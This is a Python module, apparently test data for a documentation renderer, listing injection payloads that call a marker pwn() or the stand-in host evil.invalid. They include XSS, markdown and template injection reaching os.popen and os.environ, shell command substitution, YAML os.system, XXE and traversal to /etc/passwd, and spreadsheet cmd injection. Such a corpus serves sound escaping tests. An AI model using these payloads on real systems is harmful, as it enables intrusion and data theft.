"""Texts that want to be more than text: markup, script, style, templates, formulas, queries, addresses.

Each that would run calls ``pwn`` with a number of its own, or asks ``evil.invalid`` for it, so that a hole
tells which text went through. Controls of writing direction are problems of their own and stand in none.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

NUMBER = "№"
"""Where the number of a payload stands in it."""
HOST = "evil.invalid"

ACTIVE = (
    "<script>pwn(№)</script>",
    "<script src=//evil.invalid/№.js></script>",
    "<img src=//evil.invalid/№.png onerror=pwn(№)>",
    "<svg onload=pwn(№)><animate onbegin=pwn(№) attributeName=x dur=1s>",
    "<svg><script>pwn(№)</script></svg>",
    "<iframe srcdoc='<script>parent.pwn(№)</script>'></iframe>",
    "<a href=javascript:pwn(№) autofocus onfocus=pwn(№) tabindex=0>x</a>",
    "<details open ontoggle=pwn(№)><summary>x</summary></details>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/№'>",
    "<link rel=stylesheet href=//evil.invalid/№.css>",
    "<style>@import '//evil.invalid/№.css';*{background:url(//evil.invalid/№.png)}</style>",
    "<b style='position:fixed;inset:0;background:url(//evil.invalid/№.png)' onmouseover=pwn(№)>x</b>",
    "<base href=//evil.invalid/№/>",
    "<form action=//evil.invalid/№><button autofocus onfocus=pwn(№)>x</button></form>",
)
"""What runs, loads or leads away where it is read as HTML."""

WAYS_OUT = (
    "",
    '">',
    "'>",
    '" onfocus=pwn(№) autofocus x="\'/>',
    "-->",
    "]]>",
    "</title></textarea></style></script>",
    "</p></li></ul></td></tr></table></div></article>",
    "</svg></text></a>",
    "```\n~~~\n\n",
    '\\">',
    "%22%3E",
    "*/}",
    "»“‘</q>",
)
"""What ends the place in which a text stands."""

ENTITIES = (
    "&lt;img src=x onerror=pwn(№)&gt;",
    "&amp;lt;img src=x onerror=pwn(№)&amp;gt;",
    "&amp;amp;lt;script&amp;amp;gt;pwn(№)&amp;amp;lt;/script&amp;amp;gt;",
    "&#60;img src=x onerror=pwn(№)&#62;",
    "&#x3c;img src=x onerror=pwn(№)&#x3e;",
    "&#0000060img src=x onerror=pwn(№)>",
    "&lt;script&gt;pwn(№)&lt;/script&gt;",
    "&quot; onmouseover=pwn(№) x=&quot;",
    "&#34;&#62;&#60;svg onload=pwn(№)&#62;",
    "&apos;&gt;&lt;b onclick=pwn(№)&gt;",
    "&colon;&Tab;&NewLine;javascript&colon;pwn(№)",
    "&lt;img src=//evil.invalid/№.png&gt;",
    "&nbsp;&zwj;&lbrace;&lbrace;7*7&rbrace;&rbrace; №",
    "\\u003cimg src=x onerror=pwn(№)\\u003e",
    "\\x3cscript\\x3epwn(№)\\x3c/script\\x3e",
    "%3Cscript%3Epwn(№)%3C/script%3E",
    "＜script＞pwn(№)＜/script＞",
    "<​script>pwn(№)</script>",
    "<sc<script>ript>pwn(№)</sc</script>ript>",
    "<<img src=x onerror=pwn(№)>>",
)
"""What becomes markup when it is decoded once, or twice."""

MARKUP = (
    "<img src=x: onerror=&#112;wn(№)>",
    "<IMG SRC=x OnErRoR=pwn(№)>",
    "<img/src=x/onerror=pwn(№)//",
    "<img src='x' onerror='pwn(№)'",
    "<input autofocus onfocus=pwn(№)>",
    "<select autofocus onfocus=pwn(№)></select>",
    "<video src=//evil.invalid/№.mp4 onerror=pwn(№)></video>",
    "<audio src=//evil.invalid/№.mp3 onerror=pwn(№)></audio>",
    "<video><source onerror=pwn(№)></video>",
    "<object data=//evil.invalid/№.svg></object>",
    "<embed src=//evil.invalid/№.swf>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn(№)>x</maction></math>",
    "<svg><a xlink:href=javascript:pwn(№)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn(№)/>#x'/></svg>",
    "<svg><foreignObject><body onload=pwn(№)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=pwn(№)>",
    "<svg><image href=//evil.invalid/№.png></svg>",
    "<template><script>pwn(№)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn(№)>'>",
    "<table background=//evil.invalid/№.png><tr><td>",
    "<body onload=pwn(№) onhashchange=pwn(№) onpageshow=pwn(№)>",
    "<marquee onstart=pwn(№)>x</marquee>",
    "<button popovertarget=p№>x</button><p popover id=p№ onbeforetoggle=pwn(№)>",
    "<x onpointerenter=pwn(№) onclick=pwn(№) tabindex=1 id=x№>x</x>",
    '<p id=__config>{"base":"//evil.invalid/№"}</p>',
    "<p id=__search name=__palette data-md-component=announce>№</p>",
    "<a id=__md_scope><a id=__md_scope name=href href=//evil.invalid/№>",
    "<script type=module>import '//evil.invalid/№.js'</script>",
    '<script type=importmap>{"imports":{"x":"//evil.invalid/№"}}</script>',
    '<script type=application/json id=__config>{"base":"//evil.invalid/№"}</script>',
    "<link rel=prefetch href=//evil.invalid/№><link rel=preconnect href=//evil.invalid>",
    "<link rel=icon href=//evil.invalid/№.ico>",
    "<!-- № --!><img src=x onerror=pwn(№)>",
    "<!-- №",
    "<!--><img src=x onerror=pwn(№)>",
    "<![CDATA[<img src=x onerror=pwn(№)>]]>",
    "<?xml-stylesheet href='//evil.invalid/№.css'?>",
    "<!doctype html><html onclick=pwn(№)>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'> &x; №",
    "<plaintext>№",
    "<xmp>№",
    "<textarea>№",
    "<title>№",
    "</script><img src=x onerror=pwn(№)>",
    "<script>/*</script>*/pwn(№)//",
    "<dialog open>№</dialog><h1 id=top>№</h1>",
)
"""More that a browser would do something with."""

SCRIPTS = (
    '"+pwn(№)+"',
    "';pwn(№)//",
    "\\';pwn(№)//",
    "`${pwn(№)}`",
    '"}],"x":[{"y":"</script><script>pwn(№)</script>',
    '","__proto__":{"polluted":№},"x":"',
    '{"@context":"//evil.invalid/№"}',
    "\u2028pwn(№)\u2029//",
    "№\u0085pwn(№)",
    "*/pwn(№)/*",
    "${7*7}#{7*7}<%= pwn(№) %>",
    "constructor.constructor('pwn(№)')()",
    "eval(atob('cHduKDEp')) №",
    "%0d%0aSet-Cookie:x=№",
    "); pwn(№); (",
)
"""What ends a string of a script or of JSON."""

TEMPLATES = (
    "{{ 7 * 7 }} №",
    "{{ config.__class__.__init__.__globals__['os'].environ }} №",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} №",
    "{% include 'main.html' %} №",
    "{% raw %} № {% endraw %}",
    "{# № #}",
    "{% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} №",
    "{{'<img src=x onerror=pwn(№)>'|safe}}",
    "#{pwn(№)} *{pwn(№)} @{pwn(№)}",
    "$(touch /tmp/pwn№) `touch /tmp/pwn№` ; touch /tmp/pwn№",
    "%s %d %(name)s {0} {name} {0.__class__} №",
    "!!python/object/apply:os.system ['touch /tmp/pwn№']",
    '--8<-- "mkdocs.yml" №',
    "::add-mask::№",
    "::set-output name=x::№",
    "../../../../etc/passwd №",
)
"""What a template, a shell or a log would follow."""

MARKDOWN = (
    "![x](//evil.invalid/№.png)",
    "![x](javascript:pwn(№))",
    "[x](javascript:pwn(№))",
    "[x](JaVaScRiPt&colon;pwn(№))",
    "[x](vbscript:pwn(№))",
    "[x](data:text/html,<script>pwn(№)</script>)",
    "[x](//evil.invalid/№ \"' onmouseover=pwn(№) x='\")",
    "[x]( java\tscript:pwn(№) )",
    "<javascript:pwn(№)>",
    '<https://evil.invalid/№?"onmouseover=pwn(№)>',
    '[x][r№]\n\n[r№]: javascript:pwn(№) "x"',
    "*[HTML]: <img src=x onerror=pwn(№)>",
    "[^№]: <img src=x onerror=pwn(№)>",
    "a[^№]",
    "# x {: #top onclick=pwn(№) }",
    "*x*{: onclick=pwn(№) style=position:fixed }",
    "x\n{: .md-search onmouseover=pwn(№) }",
    '!!! danger "<img src=x onerror=pwn(№)>"\n    <script>pwn(№)</script>',
    '??? note "№"\n    <img src=x onerror=pwn(№)>',
    '=== "<img src=x onerror=pwn(№)>"\n    x',
    "```html onclick=pwn(№)\n<img src=x onerror=pwn(№)>\n```",
    "``` {.x onclick=pwn(№)}\nx\n```",
    "~~~\n</code></pre><img src=x onerror=pwn(№)>\n~~~",
    "`</code><img src=x onerror=pwn(№)>`",
    "    <img src=x onerror=pwn(№)>",
    "\t<script>pwn(№)</script>",
    "> <img src=x onerror=pwn(№)>",
    "- <img src=x onerror=pwn(№)>",
    "1. <img src=x onerror=pwn(№)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=pwn(№)> | `|` |",
    "term №\n:   <img src=x onerror=pwn(№)>",
    "<div markdown=1>\n*x* <img src=x onerror=pwn(№)>\n</div>",
    "<div markdown=block onclick=pwn(№)>№</div>",
    "$$\\href{javascript:pwn(№)}{x}$$",
    "\\(\\unicode{x3c}img src=x onerror=pwn(№)\\)",
    ":smile: :fontawesome-brands-github: :<img-src=x-onerror=pwn(№)>:",
    "++ctrl+<img src=x onerror=pwn(№)>++",
    "{++<img src=x onerror=pwn(№)>++}{>>x<<}",
    "==x== ^^x^^ ~~x~~ H~2~O ^№^",
    "---\ntitle: <img src=x onerror=pwn(№)>\n---",
    "[TOC] №",
    "№\n===\n№\n---",
    "\\<img src=x onerror=pwn(№)\\>",
    "\\\\[x\\\\](javascript:pwn(№))",
    'https://evil.invalid/№"onmouseover=pwn(№)',
    "www.evil.invalid/№ mailto:x@evil.invalid",
    "x  \n<img src=x onerror=pwn(№)>",
    "\ufdd0stash:№\ufdd0 klzzwxh:000№ \u0003",
)
"""Markdown, with every extension that MkDocs or Material knows, and Python-Markdown's own marks of places."""

OTHER = (
    '=HYPERLINK("https://evil.invalid/№")',
    "+cmd|' /C calc'!A№",
    "-2+3+cmd|'/C calc'!A№",
    "@SUM(1+№)",
    "\u2060=1+№",
    ";=1+№",
    "\u200b=1+№",
    "title:№ +pwn -x ~1 ^9",
    "*№*",
    '"unclosed № title:',
    "a~99999 №^-1 +title:+",
    "№: x: y",
    "- № # x",
    "? №",
    '"№',
    "'№",
    "№ | > & * ! % @ `",
    "null",
    "~",
    "NO",
    "0x№",
    "Ǻ̷̢№" + "̴̡̧" * 8,
    "x" * 180 + "№",
    "字" * 90 + "№",
    "a\u200bb\u200cc\u200dd\u2060e№",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 №",
    "№\u00a0\u2003\u3000x",
    "\u00ad№\u00ad",
    "BEGIN:VEVENT\nSUMMARY:№\nEND:VEVENT",
    "X\\n;,:№\nATTACH:https://evil.invalid/№",
    "}@article{x, title={№}}",
    "\\input{/etc/passwd} \\write18{id} {№}",
    "<id>№</id></entry><entry>",
    "№\t\n\n\n№",
)
"""Tables, queries, YAML, calendars, citations, feeds, and letters that are wide, tall or not there."""


def payloads() -> tuple[str, ...]:
    """Give all payloads, each with its number in it."""
    return tuple(text.replace(NUMBER, str(number)) for number, text in enumerate(_numberless()))


def address(number: int) -> str:
    """Give an address that is one, of another host, with all in it that an address may hold."""
    return f"https://{HOST}/'+pwn({number})+'`{{{{7*7}}}}/(x)?a=javascript:pwn({number})&lt;b&#62;%22#'--*/"


def _numberless() -> Iterator[str]:
    yield from (way + active for way, active in product(WAYS_OUT, ACTIVE))
    for family in (ENTITIES, MARKUP, SCRIPTS, TEMPLATES, MARKDOWN, OTHER):
        yield from family
